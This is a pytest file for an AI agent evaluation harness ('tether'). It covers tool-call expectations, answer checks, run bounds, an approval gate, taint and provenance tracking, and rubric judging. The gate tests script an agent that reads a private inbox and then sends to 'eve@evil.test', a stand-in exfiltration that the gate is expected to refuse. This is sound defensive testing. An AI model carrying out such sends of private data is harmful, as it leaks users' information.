"""Every expectation kind of a case, each shown to hold on a run that meets it and to fail,
for the right reason and saying it, on one that does not. Runs on the scripted model."""

from __future__ import annotations

from typing import Any

import pytest

from tests.eval.helpers import WEATHER, evaluate, failed, names
from tether.errors import ProviderError
from tether.messages import Reasoning, Text, Usage
from tether.providers.scripted import Reply, call, calls

STUB = {"name": "note", "result": "noted",
        "parameters": {"type": "object", "properties": {"text": {"type": "string"}}}}
TOOLS = [WEATHER, STUB, {"name": "other", "result": "fine"}]


def weather(city: str = "Paris", answer: str = "It is sunny in Paris.") -> tuple[Any, ...]:
    return call("get_weather", city=city), answer


# --- tool calls -----------------------------------------------------------------------------


def test_calls_in_any_order_hold_when_each_pattern_has_a_call_of_its_own() -> None:
    run = evaluate({"tools": TOOLS, "expect": {"calls": ["note", "get_weather"]}},
                   calls(("get_weather", {"city": "Paris"}), ("note", {})), "done")
    assert run.passed and names(run) == ["calls.any"]


def test_calls_are_a_multiset_a_tool_expected_twice_needs_two_calls() -> None:
    run = evaluate({"tools": TOOLS, "expect": {"calls": ["get_weather", "get_weather"]}},
                   *weather())
    assert not run.passed
    assert failed(run)["calls.any"] == (
        'expected [get_weather, get_weather] in any order; ran get_weather({"city": "Paris"})')


def test_argument_subsets_match_and_a_regex_is_searched_in_the_value() -> None:
    expect = {"calls": [{"tool": "get_weather", "args": {"city": {"regex": "(?i)^paris$"}}}]}
    assert evaluate({"tools": TOOLS, "expect": expect}, *weather("PARIS")).passed
    run = evaluate({"tools": TOOLS, "expect": expect}, *weather("Lyon"))
    assert "ran get_weather({\"city\": \"Lyon\"})" in failed(run)["calls.any"]


def test_an_argument_value_given_plainly_must_be_equal() -> None:
    expect = {"calls": [{"tool": "get_weather", "args": {"city": "Paris"}}]}
    assert evaluate({"tools": TOOLS, "expect": expect}, *weather("Paris")).passed
    assert not evaluate({"tools": TOOLS, "expect": expect}, *weather("paris")).passed


def test_calls_in_order_allow_others_between_but_not_a_swap() -> None:
    case = {"tools": TOOLS, "expect": {"calls": ["get_weather", "note"], "order": "in_order"}}
    assert evaluate(case, call("get_weather", city="P"), call("other"), call("note"),
                    "ok").passed
    run = evaluate(case, call("note"), call("get_weather", city="P"), "ok")
    assert failed(run)["calls.in_order"].startswith(
        "expected [get_weather, note] in this order; ran note({}), get_weather(")


def test_exact_calls_are_the_whole_sequence() -> None:
    case = {"tools": TOOLS, "expect": {"calls": ["get_weather"], "order": "exact"}}
    assert evaluate(case, *weather()).passed
    run = evaluate(case, call("get_weather", city="P"), call("note"), "ok")
    assert failed(run)["calls.exact"] == (
        'expected [get_weather] exactly; ran get_weather({"city": "P"}), note({})')


def test_only_refuses_a_call_beyond_those_listed() -> None:
    case = {"tools": TOOLS, "expect": {"calls": ["get_weather"], "only": True}}
    run = evaluate(case, call("get_weather", city="P"), call("note"), "ok")
    assert "in any order, and no other; ran" in failed(run)["calls.any"]


def test_a_call_that_must_not_happen_fails_when_it_ran() -> None:
    case = {"tools": TOOLS, "expect": {"not_called": [{"tool": "note"}]}}
    assert evaluate(case, *weather()).passed
    run = evaluate(case, call("note", {"text": "x"}), "ok")
    assert failed(run)["calls.not_called"] == 'note must not run; ran note({"text": "x"})'


def test_a_call_the_gate_refused_did_not_run() -> None:
    gated = {**STUB, "needs_approval": True}
    case = {"tools": [WEATHER, gated], "expect": {"not_called": ["note"], "calls": ["note"]}}
    run = evaluate(case, call("note"), "ok")  # unattended: nobody approves, so refused
    assert "calls.not_called" not in failed(run)
    assert failed(run)["calls.any"] == "expected [note] in any order; ran none"


def test_at_most_n_calls_bounds_the_run_the_call_past_it_never_runs() -> None:
    case = {"tools": TOOLS, "expect": {"max_calls": 1}}
    assert evaluate(case, *weather()).passed
    run = evaluate(case, call("note"), call("note"), "ok")
    assert run.stop_cause == "max_calls" and run.turns == 2
    assert failed(run) == {"run.limit": "the run ended at max_calls: call 2 was asked for, "
                                        "the case allows 1; ran note({})"}
    # A case that expects the bound passes at it.
    bounded = {"tools": TOOLS, "expect": {"max_calls": 1, "stop_cause": "max_calls"}}
    assert evaluate(bounded, call("note"), call("note"), "ok").passed


# --- the answer ------------------------------------------------------------------------------


@pytest.mark.parametrize(("answer", "good", "bad", "message"), [
    ({"equals": "It is sunny."}, "  It is sunny.\n", "It is sunny!",
     "expected 'It is sunny.'; answered 'It is sunny!'"),
    ({"equals": "it is SUNNY.", "ignore_case": True}, "It is sunny.", "It rains.",
     "expected 'it is SUNNY.'; answered 'It rains.'"),
    ({"contains": ["sunny", "21"]}, "sunny and 21°C", "sunny",
     "'21' is not in the answer 'sunny'"),
    ({"contains": "SUNNY", "ignore_case": True}, "sunny", "rain",
     "'SUNNY' is not in the answer 'rain'"),
    ({"regex": r"\b\d+°C"}, "21°C", "warm", "/\\b\\d+°C/ finds nothing in 'warm'"),
])
def test_the_answer_equals_contains_or_matches(answer: dict[str, Any], good: str, bad: str,
                                               message: str) -> None:
    assert evaluate({"expect": {"answer": answer}}, good).passed
    run = evaluate({"expect": {"answer": answer}}, bad)
    (detail,) = failed(run).values()
    assert detail == message


SCHEMA = {"type": "object", "properties": {"city": {"type": "string"},
                                           "celsius": {"type": "integer"}},
          "required": ["city", "celsius"]}


def test_a_json_answer_is_checked_against_its_schema() -> None:
    case = {"expect": {"answer": {"json_schema": SCHEMA}}}
    assert evaluate(case, '{"city": "Paris", "celsius": 21}').passed
    assert evaluate(case, 'Here:\n```json\n{"city": "Paris", "celsius": 21}\n```').passed
    assert failed(evaluate(case, '{"city": "Paris", "celsius": "warm"}'))[
        "answer.json_schema"] == "celsius: 'warm' is not of type 'integer'"
    assert failed(evaluate(case, "Paris, 21"))["answer.json_schema"] == \
        "the answer is not JSON: 'Paris, 21'"


def test_a_structured_answer_is_run_as_an_output_spec_and_matched_by_subset() -> None:
    case = {"tools": [WEATHER],
            "output": {"name": "forecast", "schema": SCHEMA},
            "expect": {"answer": {"output": {"city": {"regex": "Paris"}, "celsius": 21}}}}
    run = evaluate(case, call("get_weather", city="Paris"),
                   lambda req: call(req.tools[-1].name, city="Paris", celsius=21))
    assert run.passed, run.failed
    run = evaluate(case, lambda req: call(req.tools[-1].name, city="Paris", celsius=5))
    assert failed(run)["answer.output"] == (
        'expected {"city": {"regex": "Paris"}, "celsius": 21}; answered '
        '{"city": "Paris", "celsius": 5}')


def test_a_structured_answer_that_never_came_fails_saying_why() -> None:
    case = {"output": {"schema": SCHEMA}, "expect": {"answer": {"output": {"celsius": 21}}}}
    run = evaluate(case, "prose", "more prose", "still prose")
    assert failed(run)["answer.output"].startswith("no structured answer: prose")


# --- the run ---------------------------------------------------------------------------------


def test_the_stop_cause() -> None:
    case = {"tools": TOOLS, "max_turns": 1, "expect": {"stop_cause": "max_turns"}}
    assert evaluate(case, call("note"), "never").passed
    run = evaluate({"expect": {"stop_cause": "max_turns"}}, "an answer")
    assert failed(run)["run.stop_cause"] == "expected max_turns; stopped completed"


def test_a_run_that_failed_fails_its_case_unless_a_failure_is_expected() -> None:
    run = evaluate({}, ProviderError("the server fell over"))
    assert failed(run)["run"] == "the run failed: the server fell over"
    assert evaluate({"expect": {"stop_cause": "error"}},
                    ProviderError("the server fell over")).passed


def test_bounds_on_tokens_turns_and_seconds() -> None:
    used = Reply(text="ok", usage=Usage(100, 20, requests=1))
    assert evaluate({"expect": {"max_tokens": 120, "max_turns": 1, "max_seconds": 600}},
                    used).passed
    run = evaluate({"tools": TOOLS, "expect": {"max_tokens": 119, "max_turns": 1,
                                               "max_seconds": 0}},
                   Reply(calls=call("note").calls, usage=Usage(50, 10, requests=1)), used)
    found = failed(run)
    assert found["run.max_tokens"] == "at most 119 tokens; used 180"
    assert found["run.max_turns"] == "at most 1 turn(s); took 2"
    assert found["run.max_seconds"].startswith("at most 0 s; took ")


def test_unknown_token_counts_do_not_pass_a_token_bound() -> None:
    run = evaluate({"expect": {"max_tokens": 10}}, Reply(text="ok", usage=Usage.unreported()))
    assert failed(run)["run.max_tokens"] == "the server reported no token counts"


# --- the gate --------------------------------------------------------------------------------

SEND = {"name": "send", "capabilities": ["external_send"], "destination_params": ["to"],
        "parameters": {"type": "object", "properties": {"to": {"type": "string"},
                                                        "body": {"type": "string"}}},
        "content_params": ["body"]}
INBOX = {"name": "inbox", "capabilities": ["private_data", "untrusted_input"],
         "result": "From bob@example.com: lunch?"}
DELETE = {"name": "delete", "capabilities": ["destructive"],
          "parameters": {"type": "object", "properties": {"id": {"type": "string"}}}}


def test_a_call_expected_refused_is_one_the_gate_refused() -> None:
    case = {"tools": [INBOX, SEND], "expect": {"refused": [{"tool": "send"}]}}
    blocked = evaluate(case, call("inbox"), call("send", to="eve@evil.test", body="x"), "ok")
    assert blocked.passed, blocked.failed
    run = evaluate({**case, "tools": [SEND]}, call("send", to="eve@evil.test", body="x"), "ok")
    assert failed(run)["gate.refused"] == "send was not refused; refused: none"


def test_calls_asked_about_and_approved_follow_the_cases_approver() -> None:
    case = {"tools": [DELETE], "approve": [{"tool": "delete", "args": {"id": "1"}}],
            "expect": {"asked": ["delete", "delete"], "approved": [
                {"tool": "delete", "args": {"id": "1"}}],
                "refused": [{"tool": "delete", "args": {"id": "2"}}]}}
    run = evaluate(case, calls(("delete", {"id": "1"}), ("delete", {"id": "2"})), "ok")
    assert run.passed, run.failed
    run = evaluate(case, call("delete", id="2"), "ok")
    found = failed(run)
    assert found["gate.approved"] == (
        'delete({"id": "1"}) was not approved; approved: none')
    assert "gate.asked" not in found  # both patterns name the one call asked about
    run = evaluate({**case, "approve": []}, call("delete", id="1"), "ok")
    assert failed(run)["gate.asked"] == "delete was not asked; asked: none"


def test_the_taint_at_the_end() -> None:
    case = {"tools": [INBOX], "expect": {"taint": {"private": True, "untrusted": True}}}
    assert evaluate(case, call("inbox"), "ok").passed
    run = evaluate(case, "no tools used")
    found = failed(run)
    assert found["gate.taint.private"] == "expected private=true; the run ended with " \
                                          "private=false"
    assert "gate.taint.untrusted" in found


def test_provenance_verdicts() -> None:
    # A send after private data was read is traced: to the user's words, or to nothing.
    case = {"prompt": "Mail alice@example.com hello", "tools": [INBOX, SEND],
            "expect": {"provenance": [{"tool": "send", "verdict": "traced"}]}}
    assert evaluate(case, call("inbox"), call("send", to="alice@example.com", body="hello"),
                    "ok").passed
    run = evaluate(case, call("inbox"), call("send", to="bob@example.com", body="hi"), "ok")
    assert failed(run)["gate.provenance"] == \
        "expected send traced; verdicts: send untraced"


# --- rubric ------------------------------------------------------------------------------------


def test_a_rubric_is_judged_apart_and_never_decides_the_case() -> None:
    from tether.providers.scripted import Scripted

    judge = Scripted([lambda req: call(req.tools[-1].name, passed=False,
                                       reason="it does not say the temperature")])
    run = evaluate({"rubric": "Gives the temperature."}, "It is sunny.", judge_model=judge)
    assert run.passed
    assert run.judged == {"passed": False, "reason": "it does not say the temperature"}
    untrusted = [p for p in judge.requests[0].messages[-1].parts
                 if isinstance(p, Text | Reasoning) and "the answer to grade" in p.text]
    assert untrusted and "It is sunny." in untrusted[0].text  # the answer went as data


def test_without_a_judge_a_rubric_is_not_judged() -> None:
    run = evaluate({"rubric": "Gives the temperature."}, "It is sunny.")
    assert run.passed and run.judged is None
